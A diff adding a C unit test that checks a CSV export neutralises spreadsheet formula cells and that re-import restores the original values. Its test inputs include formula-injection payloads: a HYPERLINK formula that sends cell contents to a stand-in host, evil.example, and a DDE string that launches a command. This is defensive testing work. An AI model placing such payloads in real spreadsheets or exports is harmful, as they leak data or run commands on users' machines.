@@ -472,6 +472,141 @@ static void test_export_json_and_district(void **state)
 	sqlite3_close(db);
 }
 
+/* Calls fn on every cell of a CSV text (quotes removed, "" as "), in order. */
+static void each_cell(const char *p, size_t n, void (*fn)(const char *cell, size_t len, void *ctx),
+		      void *ctx)
+{
+	char *cell = malloc(n + 1);
+	assert_non_null(cell);
+	size_t i = 0;
+	if (n >= 3 && memcmp(p, "\xef\xbb\xbf", 3) == 0)
+		i = 3;
+	while (i < n) {
+		size_t k = 0;
+		if (p[i] == '"') {
+			for (i++; i < n; i++) {
+				if (p[i] == '"' && i + 1 < n && p[i + 1] == '"')
+					cell[k++] = p[i++];
+				else if (p[i] == '"')
+					break;
+				else
+					cell[k++] = p[i];
+			}
+			i++;
+		} else {
+			for (; i < n && p[i] != ',' && p[i] != '\r'; i++)
+				cell[k++] = p[i];
+		}
+		cell[k] = '\0';
+		fn(cell, k, ctx);
+		if (i < n && p[i] == ',')
+			i++;
+		else if (i + 1 < n && p[i] == '\r' && p[i + 1] == '\n')
+			i += 2;
+		else
+			assert_true(i >= n);
+	}
+	free(cell);
+}
+
+/* A cell a spreadsheet would run: = + - @ TAB or CR first, except the plain numbers of the
+ * test's rows. */
+static void no_formula(const char *cell, size_t len, void *ctx)
+{
+	size_t *ncells = ctx;
+	(*ncells)++;
+	if (strcmp(cell, "-5") == 0 || strcmp(cell, "-1.5") == 0 || strcmp(cell, "-12") == 0)
+		return;
+	if (len > 0 && strchr("=+-@\t\r", cell[0]) != NULL)
+		fail_msg("the export has a cell a spreadsheet would run: '%s'", cell);
+}
+
+/* #15 item 11: export neutralises what a spreadsheet would take for a formula (a ' before
+ * it, as OWASP recommends), and the re-import of the export takes the ' off again. */
+static void test_export_formula_cells(void **state)
+{
+	(void)state;
+	static const char *const texts[] = {
+		"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+		"+91 98765 43210",
+		"-2+3+cmd|' /C calc'!A0",
+		"@SUM(A1:A9)",
+		"\tTab first",
+		"\rCR first",
+		"'=quoted by the writer",
+		"''+two quotes",
+		"-",
+		"-12",
+		"'",
+		"plain",
+		"=1,\"2\"\n=3",
+	};
+	const char *schema = "CREATE TABLE notes (id TEXT PRIMARY KEY NOT NULL, n INTEGER, "
+			     "r REAL, t TEXT);";
+	sqlite3 *db = new_db(), *db2 = new_db();
+	assert_int_equal(sqlite3_exec(db, schema, NULL, NULL, NULL), SQLITE_OK);
+	assert_int_equal(sqlite3_exec(db2, schema, NULL, NULL, NULL), SQLITE_OK);
+	size_t ntexts = sizeof(texts) / sizeof(texts[0]);
+	sqlite3_stmt *ins;
+	assert_int_equal(sqlite3_prepare_v2(db, "INSERT INTO notes VALUES (?1, -5, -1.5, ?2)", -1,
+					    &ins, NULL),
+			 SQLITE_OK);
+	for (size_t i = 0; i < ntexts; i++) {
+		char id[16];
+		snprintf(id, sizeof(id), "n%02zu", i);
+		sqlite3_bind_text(ins, 1, id, -1, SQLITE_TRANSIENT);
+		sqlite3_bind_text(ins, 2, texts[i], -1, SQLITE_STATIC);
+		assert_int_equal(sqlite3_step(ins), SQLITE_DONE);
+		sqlite3_reset(ins);
+	}
+	sqlite3_finalize(ins);
+
+	size_t len, ncells = 0;
+	char *out = export(db, "notes", ZILA_EXPORT_CSV, &len);
+	each_cell(out, len, no_formula, &ncells);
+	assert_int_equal(ncells, 4 * (ntexts + 1));
+	assert_non_null(strstr(out, "'=HYPERLINK("));
+	assert_non_null(strstr(out, "''=quoted by the writer"));
+
+	/* the re-import changes nothing, and into an empty replica gives the same values */
+	struct zila_csv_stats st;
+	struct rejects rj;
+	struct zila_csv_import_opts o = { .table = "notes" };
+	assert_int_equal(import(db, &o, out, len, 5, &st, &rj), 0);
+	assert_int_equal(st.nunchanged, ntexts);
+	assert_int_equal(st.ncreated + st.nupdated + st.nrejected, 0);
+	assert_int_equal(import(db2, &o, out, len, 4096, &st, &rj), 0);
+	assert_int_equal(st.ncreated, ntexts);
+	for (size_t i = 0; i < ntexts; i++) {
+		char sql[96];
+		snprintf(sql, sizeof(sql), "SELECT t || '|' || n || '|' || r FROM notes WHERE id = 'n%02zu'", i);
+		char *got = text(db2, sql), want[128];
+		snprintf(want, sizeof(want), "%s|-5|-1.5", texts[i]);
+		assert_string_equal(got, want);
+		free(got);
+	}
+	size_t len2;
+	char *out2 = export(db2, "notes", ZILA_EXPORT_CSV, &len2);
+	assert_int_equal(len, len2);
+	assert_memory_equal(out, out2, len);
+
+	/* the rows import writes back (a rejects file) are neutralised the same way */
+	char *row = NULL;
+	size_t row_len = 0;
+	FILE *m = open_memstream(&row, &row_len);
+	assert_non_null(m);
+	const char *f[] = { "=1+1", "@x", "-3" };
+	size_t fl[] = { 4, 2, 2 };
+	assert_int_equal(zila_csv_write_row(m, f, fl, 3), 0);
+	fclose(m);
+	assert_string_equal(row, "'=1+1,'@x,-3\r\n");
+	free(row);
+	free(out);
+	free(out2);
+	sqlite3_close(db2);
+	sqlite3_close(db);
+}
+
 static void test_encodings_and_limits(void **state)
 {
 	(void)state;
@@ -517,6 +652,7 @@ int main(void)
 		cmocka_unit_test(test_self_reference_parents_first),
 		cmocka_unit_test(test_export_json_and_district),
 		cmocka_unit_test(test_encodings_and_limits),
+		cmocka_unit_test(test_export_formula_cells),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
